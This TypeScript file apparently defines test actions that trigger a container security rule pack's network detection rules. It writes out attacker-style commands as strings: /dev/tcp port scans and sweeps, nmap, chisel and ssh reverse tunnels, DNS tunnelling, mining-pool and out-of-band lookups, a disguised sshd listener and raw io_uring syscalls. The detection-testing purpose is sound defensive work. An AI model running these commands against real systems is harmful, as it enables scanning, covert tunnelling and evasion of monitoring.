/** Acts for the rules of the pack network. */
import type { Act } from './act.ts'
import { ask, called, connects, copied, emptied, layered, python, withAddress } from './pieces.ts'

const asks = (...lines: string[]) => `${withAddress()}; ${python(...ask, ...lines)}`
const outside = withAddress('203.0.113.0/24')
const connectsAs = (name: string, port: number) =>
  `${outside}; ${emptied('/mnt')}; ${connects(`/mnt/${name}`, '203.0.113.9', port)}`
const listens = 'import socket\ns=socket.socket()\ns.bind(("0.0.0.0",4444))\ns.listen()'

/** Sets a ring up, and opens /dev/null through it (include/uapi/linux/io_uring.h; system calls of x86-64 and arm64). */
const opensThroughRing = [
  'import ctypes,mmap,struct',
  'call=ctypes.CDLL(None,use_errno=True).syscall',
  'params=ctypes.create_string_buffer(120)',
  'ring=call(425,4,params)',
  'word=lambda at: struct.unpack_from("I",params,at)[0]',
  'sq=mmap.mmap(ring,word(40+24)+4*word(0),offset=0)',
  'entries=mmap.mmap(ring,64*word(0),offset=0x10000000)',
  'path=ctypes.create_string_buffer(b"/dev/null")',
  'struct.pack_into("BBHiQQIIQ",entries,0,18,0,0,-100,0,ctypes.addressof(path),0,0,7)',
  'struct.pack_into("I",sq,word(40+24),0)',
  'struct.pack_into("I",sq,word(40+4),1)',
  'call(426,ring,1,1,1,None,0)',
]

export const acts: Act[] = [
  { rule: 'mining-pool-lookup', script: asks('ask("pool.supportxmr.com")') },
  { rule: 'pool-port-contact', script: connectsAs('x', 3333) },
  { rule: 'ssh-on-another-port', script: connectsAs('ssh', 443) },
  {
    rule: 'port-scan',
    script: `${withAddress('10.9.9.9/32')}; bash -c 'for port in $(seq 1 25); do true 3<>/dev/tcp/10.9.9.9/$port; done' 2> /dev/null || true`,
  },
  {
    rule: 'address-sweep',
    script: `${withAddress('10.9.9.0/24')}; bash -c 'for last in $(seq 1 25); do true 3<>/dev/tcp/10.9.9.$last/445; done' 2> /dev/null || true`,
  },
  { rule: 'scanner-executed', script: called('nmap', '-sT 10.0.0.0/24') },
  { rule: 'network-tool-in-container', script: 'nc.traditional -h 2> /dev/null || true' },
  { rule: 'remote-copy-tool-in-container', script: called('rsync', '-a /data x:/') },
  { rule: 'tunnel-program', script: called('chisel', 'client 203.0.113.9:443 R:socks') },
  { rule: 'ssh-tunnel', script: called('ssh', '-N -R 8080:localhost:80 x') },
  { rule: 'tunnel-service-lookup', script: asks('ask("a-b-c.trycloudflare.com")') },
  { rule: 'out-of-band-lookup', script: asks('ask("c59hqs2vtc0000.oast.fun")') },
  { rule: 'file-drop-lookup', script: asks('ask("pastebin.com")') },
  {
    rule: 'dns-tunnel',
    script: asks('for i in range(20): ask("%02dk5xw4zlsonuw63tfebqw4zbaorugs4zanfzsa43fmnzg.example.org"%i)'),
  },
  { rule: 'dns-text-burst', script: asks('for i in range(20): ask("a%d.example.org"%i,16)') },
  { rule: 'dns-to-unusual-server', script: `${outside}; ${python(...ask, 'ask("example.org",1,"203.0.113.53")')}` },
  { rule: 'encrypted-dns', script: `${withAddress('1.1.1.1/32')}; bash -c 'true 3<>/dev/tcp/1.1.1.1/853' || true` },
  { rule: 'unexpected-listener', script: python(listens) },
  {
    rule: 'remote-access-server',
    script: `${emptied('/mnt')}; ${copied('python3', '/mnt/sshd')}; PYTHONHOME=/usr /mnt/sshd -c '${listens}'`,
  },
  { rule: 'io-uring-in-container', script: python(...opensThroughRing) },
  {
    rule: 'node-api-contact-by-tool',
    script: `${withAddress('10.9.9.9/32')}; bash -c 'true 3<>/dev/tcp/10.9.9.9/10250' || true`,
  },
  { rule: 'program-without-network-connects', script: connectsAs('sleep', 443) },
  { rule: 'shell-connects-outward', script: `${outside}; bash -c 'true 3<>/dev/tcp/203.0.113.9/80' || true` },
  {
    rule: 'dropped-program-connects',
    script: `${outside}; ${layered}; ${connects('/mnt/m/x', '203.0.113.9', 443)}`,
  },
  { rule: 'database-connects-outward', script: connectsAs('postgres', 443) },
  { rule: 'java-directory-callout', script: connectsAs('java', 1389) },
  {
    rule: 'mail-sent-directly',
    script: `${outside}; bash -c 'for last in $(seq 1 12); do true 3<>/dev/tcp/203.0.113.$last/25; done' 2> /dev/null || true`,
  },
]
